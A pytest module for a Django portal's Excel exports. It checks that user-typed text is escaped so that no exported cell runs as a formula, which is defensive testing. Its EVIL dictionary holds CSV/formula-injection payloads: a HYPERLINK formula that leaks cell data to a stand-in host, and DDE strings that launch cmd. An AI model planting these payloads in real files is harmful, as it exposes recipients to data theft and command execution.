"""No Excel file the portal makes holds a formula, whatever text people typed.

The demo data is loaded once, text fields that people fill in (an insats's texts, a category, a
search, a contact, a network role, KIS indicator texts, an action point and its notes, a report's
introduction) are given text that a spreadsheet would run as a formula (``=``, ``+``, ``-``, ``@``,
tab, carriage return, a DDE call), and then EVERY registered export kind is built and read back
cell by cell. The test walks the registry, so a new export kind without a case here fails. The
KIS template offered for download is checked the same way (the Insatsbasen import template is the
``insatsbasen.insatser`` export itself).
"""

import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from intro_sodertorn.exports import export_run, export_start, registered_exports
from intro_sodertorn.models import ExportJob
from intro_sodertorn.xlsx import DANGEROUS_PREFIXES

EVIL = {
    "hyperlink": '=HYPERLINK("http://exempel.invalid/?d="&A1,"Klicka här")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def evil(name, suffix=""):
    return EVIL[name] + suffix


def poison():
    """Formula-like text in every field a person can type that some export writes. Returns the export params."""
    from insatsbasen.models import Category, Insats, SearchLog, TargetGroup
    from natverk.models import Contact, Membership, Municipality
    from statistik.models import CatalogueVersion, Indicator, Period, Report
    from uppdrag import services as uppdrag_services
    from uppdrag.models import ActionPoint, Assignment, JournalNote

    insats = Insats.objects.filter(owner_municipality__code="0126").order_by("pk").first()
    Insats.objects.filter(pk=insats.pk).update(
        name=evil("hyperlink"),
        short_description=evil("plus"),
        eligibility=evil("at"),
        hours=evil("tab"),
        internal_notes=evil("cr"),
        participant_cost=evil("minus"),
        description=evil("dde"),
    )
    Category.objects.filter(pk=insats.category_id).update(name=evil("dde", " kategori"))
    group = TargetGroup.objects.order_by("pk").first()
    TargetGroup.objects.filter(pk=group.pk).update(name=evil("at", " grupp"))
    insats.target_groups.add(group)
    SearchLog.objects.create(query=evil("hyperlink", " sökning"), week=timezone.localdate(), count=3)

    membership = Membership.objects.current().select_related("contact").order_by("pk").first()
    Membership.objects.filter(pk=membership.pk).update(role=evil("minus", " ordförande"))
    Contact.objects.filter(pk=membership.contact_id).update(
        name=evil("hyperlink", " kontakt"), phone="+46 8 123 45 67", title=evil("at", " titel")
    )

    latest = CatalogueVersion.objects.order_by("-number").first()
    indicator = Indicator.objects.filter(version=latest, kind="typed").order_by("pk").first()
    Indicator.objects.filter(version__in=CatalogueVersion.objects.all(), code=indicator.code).update(
        name=evil("plus", " indikator"), definition=evil("dde", " definition"), source=evil("at", " källa")
    )

    assignment = Assignment.current()
    point = ActionPoint.objects.order_by("pk").first()
    ActionPoint.objects.filter(pk=point.pk).update(title=evil("dde", " åtgärd"))
    JournalNote.objects.filter(action_point=point).update(text=evil("cr", " anteckning"))
    strategist = _user("strateg")
    snapshot = uppdrag_services.report_snapshot_create(
        assignment,
        strategist,
        evil("hyperlink", " rapport"),
        datetime.date(2020, 1, 1),
        timezone.localdate(),
        introduction=evil("tab", " inledning"),
    )
    period = Period.objects.filter(reports__status="approved").order_by("-year", "-half").first()
    return {
        "code": indicator.code,
        "period": period.pk,
        "botkyrka": Municipality.objects.get(code="0127").pk,
        "network": membership.network_id,
        "contact": membership.contact_id,
        "snapshot": snapshot.pk,
        "report": Report.objects.filter(municipality__code="0127").order_by("pk").first().pk,
    }


def _user(username):
    from django.contrib.auth import get_user_model

    return get_user_model().objects.get(username=username)


# kind -> (who asks for it, its params from poison()'s ids)
CASES = {
    "insatsbasen.insatser": ("admin-huddinge", lambda ids: {}),
    "insatsbasen.statistik": ("strateg", lambda ids: {}),
    "insatsbasen.luckor": ("strateg", lambda ids: {}),
    "natverk.members": ("strateg", lambda ids: {"network_id": ids["network"]}),
    "natverk.extract": ("strateg", lambda ids: {"contact_id": ids["contact"]}),
    "statistik.overview": ("statistik-region", lambda ids: {}),
    "statistik.series": ("statistik-region", lambda ids: {"code": ids["code"]}),
    "statistik.comparison": ("statistik-region", lambda ids: {"code": ids["code"], "period": ids["period"]}),
    "statistik.municipality": ("statistik-region", lambda ids: {"municipality": ids["botkyrka"]}),
    "statistik.status": ("statistik-region", lambda ids: {}),
    "statistik.catalogue": ("statistik-region", lambda ids: {}),
    "uppdrag.report": ("strateg", lambda ids: {"snapshot": ids["snapshot"]}),
}
# Test-only builders registered by other test modules are not the portal's exports.
TEST_KINDS = ("tests.",)


def formula_cells(data):
    """(sheet!cell, value) of every cell that is a formula or text a spreadsheet would read as one."""
    found = []
    workbook = load_workbook(io.BytesIO(data))  # normal mode: a formula cell has data_type "f"
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                text_formula = isinstance(cell.value, str) and cell.value.startswith(DANGEROUS_PREFIXES)
                if cell.data_type == "f" or text_formula:
                    found.append((f"{sheet.title}!{cell.coordinate}", cell.value))
    return found


def escaped_evil(data):
    """The poisoned texts that reached the file, escaped (a leading apostrophe, stored as text)."""
    workbook = load_workbook(io.BytesIO(data))
    values = [cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    return {
        name
        for name, text in EVIL.items()
        for value in values
        if isinstance(value, str) and value.startswith("'" + text)
    }


@pytest.fixture
def demo(cast):
    from intro_sodertorn.demo import demo_load

    demo_load()
    return poison()


def test_every_registered_export_kind_has_a_case_here():
    kinds = {kind for kind in registered_exports() if not kind.startswith(TEST_KINDS)}
    assert kinds == set(CASES), "add a case for the new export kind to CASES"


def test_no_export_holds_a_formula_whatever_people_typed(demo):
    problems, reached = [], {}
    for kind in sorted(kind for kind in registered_exports() if not kind.startswith(TEST_KINDS)):
        username, params = CASES[kind]
        job = export_start(_user(username), kind, evil("hyperlink", " titel"), params(demo))
        job = export_run(job.pk)
        assert job.status == ExportJob.Status.DONE, (kind, job.error)
        with job.file.open("rb") as handle:
            data = handle.read()
        problems += [(kind, *cell) for cell in formula_cells(data)]
        reached[kind] = escaped_evil(data)
    assert problems == []
    # Each export really carried poisoned text (else the check above would prove nothing).
    assert {kind for kind, names in reached.items() if not names} == set()
    # Between them the exports carried every kind of formula-like start.
    assert set().union(*reached.values()) == set(EVIL)


def test_the_kis_template_holds_no_formula_whatever_the_catalogue_says(demo, client):
    # Logged in after the demo data is loaded (loading it sets the cast's passwords, which ends older sessions).
    client.force_login(_user("statistik-region"))
    response = client.get(reverse("statistik:report_template", args=[demo["report"]]))
    assert response.status_code == 200
    assert formula_cells(response.content) == []
    assert {"plus", "dde", "at"} <= escaped_evil(response.content)
